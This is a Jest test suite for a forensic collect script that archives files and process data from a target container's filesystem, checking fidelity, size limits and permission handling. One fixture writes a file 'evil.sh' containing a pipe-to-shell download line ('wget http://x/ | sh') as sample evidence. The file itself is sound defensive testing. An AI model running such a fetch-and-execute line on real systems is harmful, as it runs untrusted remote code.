// The collector's real script, run by the host's busybox sh against a local process standing in for
// the target: /proc/<pid>/root of a process on this machine is "/", so the paths point into a
// scratch tree. Its stream goes through CollectArchive as in a real run.
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { chmodSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CollectArchive, type CollectSummary } from '../../../src/plan/collect-archive';
import { COLLECT_SCRIPT } from '../../../src/plan/collect-script';
import { eventually } from '../../support/wait';
import { describeIfAvailable } from '../../support/suite-gate';

const busybox = spawnSync('busybox', ['true']).status === 0;
const describeBusybox = describeIfAvailable('test/unit/plan/collect-script.test.ts', busybox ? '' : 'busybox is not installed', 'apt-get install busybox-static');
// Each case runs a real shell script over a scratch tree: a few seconds on a loaded 2-core machine,
// past Jest's 5 s default (seen at load 15). The limit only catches a hang; nothing here is timed.
jest.setTimeout(30_000);
const sha = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

/** Every file under dir with its mode, mtime and content hash: compared before and after a run. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const p = join(d, name);
      const st = lstatSync(p);
      out[p] = `${st.mode} ${st.mtimeMs} ${st.isFile() ? sha(readFileSync(p)) : ''}`;
      if (st.isDirectory()) walk(p);
    }
  };
  walk(dir);
  return out;
}

describeBusybox('the collect script under busybox sh', () => {
  let root = '';
  let target: ReturnType<typeof spawn>;
  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), 'ke-collect-script-'));
    mkdirSync(join(root, 'tmp/sub'), { recursive: true });
    writeFileSync(join(root, 'tmp/evil.sh'), '#!/bin/sh\nwget http://x/ | sh\n');
    chmodSync(join(root, 'tmp/evil.sh'), 0o755);
    writeFileSync(join(root, 'tmp/sub/big'), Buffer.alloc(5000, 7));
    writeFileSync(join(root, 'tmp/odd\nname'), 'n');
    symlinkSync('/etc/passwd', join(root, 'tmp/link'));
    mkdirSync(join(root, 'real'));
    writeFileSync(join(root, 'real/f'), 'f');
    symlinkSync(join(root, 'real'), join(root, 'via'));
    execFileSync('mkfifo', [join(root, 'tmp/fifo')]);
    // The stand-in target, in a mount namespace of its own as a container is: the script tells its
    // own processes from the target's by that. Its command line is what the process list must show.
    target = spawn('unshare', [process.getuid!() === 0 ? '-m' : '-rm', 'busybox', 'sh', '-c', 'sleep 300; : ke-collect-marker'], { stdio: 'ignore' });
  });
  afterAll(() => {
    target.kill();
    rmSync(root, { recursive: true, force: true });
  });

  async function collect(paths: string[], max: number, env = '', pid = target.pid): Promise<{ tar: Buffer; summary: CollectSummary }> {
    const chunks: Buffer[] = [];
    const archive = new CollectArchive(
      { cluster: '', context: '', namespace: '', pod: '', podUid: '', container: '', image: '', imageDigest: '', node: '', time: new Date().toISOString(), user: '', reason: '', pluginVersion: '', collector: { container: '', image: '' }, paths, environment: env === '1', maxBytes: max },
      (b) => chunks.push(Buffer.from(b)),
    );
    const sh = spawn('busybox', ['sh', '-c', COLLECT_SCRIPT], {
      env: { PATH: '/usr/bin:/bin', COLLECT_PID: String(pid), COLLECT_PATHS: paths.join('\n'), COLLECT_ENV: env, COLLECT_MAX: String(max) },
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    sh.stdout!.on('data', (d: Buffer) => archive.push(d));
    sh.stdin!.write('go\n');
    await new Promise((resolve) => sh.on('close', resolve));
    sh.stdin!.destroy();
    const summary = archive.finish();
    return { tar: Buffer.concat(chunks), summary };
  }

  function extract(tar: Buffer): string {
    const dir = mkdtempSync(join(tmpdir(), 'ke-collect-out-'));
    writeFileSync(join(dir, 'a.tar'), tar);
    execFileSync('tar', ['-xf', 'a.tar'], { cwd: dir });
    return dir;
  }

  it('archives files byte for byte, records symlinks without following them, skips what it cannot read, and changes nothing', async () => {
    const before = snapshot(root);
    const { tar, summary } = await collect([`${root}/tmp`, `${root}/absent`, `${root}/via/f`], 1 << 20);
    expect(snapshot(root)).toEqual(before);
    expect(summary).toMatchObject({ complete: true, facts: { 'target-pid': String(target.pid), 'collector-uid': String(process.getuid!()) } });
    const out = extract(tar);
    try {
      expect(readFileSync(join(out, `evidence/rootfs${root}/tmp/evil.sh`), 'utf8')).toBe('#!/bin/sh\nwget http://x/ | sh\n');
      expect(readFileSync(join(out, `evidence/rootfs${root}/tmp/sub/big`))).toEqual(Buffer.alloc(5000, 7));
      expect(readFileSync(join(out, `evidence/rootfs${root}/tmp/odd\nname`), 'utf8')).toBe('n');
      expect(lstatSync(join(out, `evidence/rootfs${root}/tmp/evil.sh`)).mode & 0o777).toBe(0o755);
      const entries = Object.fromEntries(summary.entries.map((e) => [e.source ?? e.path, e]));
      expect(entries[`${root}/tmp/link`]).toMatchObject({ type: 'symlink', linkTarget: '/etc/passwd' });
      for (const e of summary.entries.filter((x) => x.sha256 && x.path !== 'evidence/manifest.json' && x.path !== 'evidence/SHA256SUMS'))
        expect(sha(readFileSync(join(out, e.path)))).toBe(e.sha256);
      expect(summary.skipped).toEqual(
        expect.arrayContaining([
          { path: `${root}/tmp/fifo`, reason: 'special-file' },
          { path: `${root}/absent`, reason: 'absent' },
          { path: `${root}/via/f`, reason: 'through-symlink' },
        ]),
      );
      const ps = readFileSync(join(out, 'evidence/collected/processes.tsv'), 'utf8').split('\n');
      expect(ps[0]).toBe('PID\tPPID\tUID\tUSER\tSTARTED\tCOLLECTOR\tCOMMAND');
      const line = ps.find((l) => l.startsWith(`${target.pid}\t`))!;
      expect(line).toMatch(new RegExp(`^${target.pid}\\t\\d+\\t${process.getuid!()}\\t\\S*\\t\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ\\tno\\tbusybox sh -c sleep 300; : ke-collect-marker$`));
      expect(ps.filter((l) => /\tyes\t\[collector\] /.test(l)).length).toBeGreaterThan(0);
      expect(readFileSync(join(out, 'evidence/collected/mountinfo'), 'utf8')).toMatch(/ \/ /);
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
  });

  it('stays under --max-size: what does not fit is skipped and recorded, and the archive stays whole', async () => {
    // Here the "target" shares the host's process list, so the generated texts vary in size: the
    // test holds the invariants (the exact cut is in the CollectArchive tests and on the real node).
    const { summary } = await collect([`${root}/tmp/sub/big`, `${root}/tmp/evil.sh`], 4999);
    expect(summary.complete).toBe(true);
    expect(summary.contentBytes).toBeLessThanOrEqual(4999);
    expect(summary.skipped).toEqual(expect.arrayContaining([{ path: `${root}/tmp/sub/big`, reason: 'max-size' }]));
    const uncapped = await collect([`${root}/tmp/sub/big`, `${root}/tmp/evil.sh`], 1 << 30);
    expect(uncapped.summary.skipped.filter((x) => x.reason === 'max-size')).toEqual([]);
  });

  it('reads the environment of the target processes only with COLLECT_ENV=1', async () => {
    const without = await collect([], 1 << 20);
    expect(without.summary.entries.some((e) => e.path.endsWith('/environ'))).toBe(false);
    const withEnv = await collect([], 1 << 20, '1');
    expect(withEnv.summary.entries.some((e) => e.path.endsWith('/environ'))).toBe(true);
  });

  it('stops with a fatal record, before anything else, when the target root cannot be read', async () => {
    const { summary } = await collect([`${root}/tmp`], 1 << 20, '', 999_999_999);
    expect(summary).toMatchObject({ complete: false, fatal: 'unreadable-root', entries: [expect.objectContaining({ path: 'evidence/header.json' }), expect.objectContaining({ path: 'evidence/SHA256SUMS' })] });
  });

  it('skips /proc and /sys under a --path as pseudo-filesystems', async () => {
    const { summary } = await collect(['/proc', '/sys'], 1 << 20);
    expect(summary.skipped).toEqual(expect.arrayContaining([{ path: '/proc/', reason: 'pseudo-filesystem' }, { path: '/sys/', reason: 'pseudo-filesystem' }]));
    expect(summary.entries.filter((e) => e.source?.startsWith('/proc/'))).toEqual([]);
  });
});

// A non-root collector reading a target of its own uid, as on a cluster: what that uid may not
// read is skipped as permission-denied, never sent as zeros.
const asNobody = process.getuid?.() === 0 && spawnSync('setpriv', ['--version']).status === 0;
describeIfAvailable('test/unit/plan/collect-script.test.ts', busybox && asNobody ? '' : 'root, busybox and setpriv are needed', 'run as root with util-linux and busybox-static')(
  'the collect script as a non-root user',
  () => {
    let root = '';
    let target: ReturnType<typeof spawn>;
    beforeAll(() => {
      root = mkdtempSync(join(tmpdir(), 'ke-collect-nobody-'));
      chmodSync(root, 0o755);
      mkdirSync(join(root, 'open'));
      writeFileSync(join(root, 'open/readable'), 'r');
      writeFileSync(join(root, 'open/secret'), 's');
      chmodSync(join(root, 'open/secret'), 0o600);
      mkdirSync(join(root, 'closed'), 0o700);
      writeFileSync(join(root, 'closed/x'), 'x');
      target = spawn('unshare', ['-m', 'setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', 'busybox', 'sh', '-c', 'sleep 300'], { stdio: 'ignore' });
    });
    afterAll(() => {
      target.kill();
      rmSync(root, { recursive: true, force: true });
    });

    it('reads what the uid may read and records the rest as permission-denied', async () => {
      const chunks: Buffer[] = [];
      const archive = new CollectArchive(
        { cluster: '', context: '', namespace: '', pod: '', podUid: '', container: '', image: '', imageDigest: '', node: '', time: new Date().toISOString(), user: '', reason: '', pluginVersion: '', collector: { container: '', image: '' }, paths: [], environment: false, maxBytes: 1 << 20 },
        (b) => chunks.push(Buffer.from(b)),
      );
      // The target must have exec'd past setpriv, as 65534, before the collector looks at it. Not
      // "busybox in its cmdline": busybox sh execs the sleep, so that shows for a moment if at all.
      const execd = () => /^Uid:\s+65534\s/m.test(readFileSync(`/proc/${target.pid}/status`, 'utf8')) && !/^(unshare|setpriv)\0/.test(readFileSync(`/proc/${target.pid}/cmdline`, 'utf8'));
      await eventually(async () => execd(), 5_000, 'the target to run busybox as uid 65534', 20);
      const sh = spawn('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', 'busybox', 'sh', '-c', COLLECT_SCRIPT], {
        env: { PATH: '/usr/bin:/bin', COLLECT_PID: String(target.pid), COLLECT_PATHS: `${root}/open\n${root}/closed`, COLLECT_ENV: '', COLLECT_MAX: String(1 << 20) },
        stdio: ['pipe', 'pipe', 'inherit'],
      });
      sh.stdout!.on('data', (d: Buffer) => archive.push(d));
      sh.stdin!.write('go\n');
      await new Promise((resolve) => sh.on('close', resolve));
      sh.stdin!.destroy();
      const summary = archive.finish();
      expect(summary).toMatchObject({ complete: true, facts: { 'collector-uid': '65534', 'target-uid': '65534' } });
      expect(summary.skipped).toEqual([
        { path: `${root}/open/secret`, reason: 'permission-denied' },
        { path: `${root}/closed/`, reason: 'permission-denied' },
      ]);
      expect(summary.entries.find((e) => e.source === `${root}/open/readable`)).toMatchObject({ type: 'file', size: 1, sha256: sha('r') });
    });
  },
);
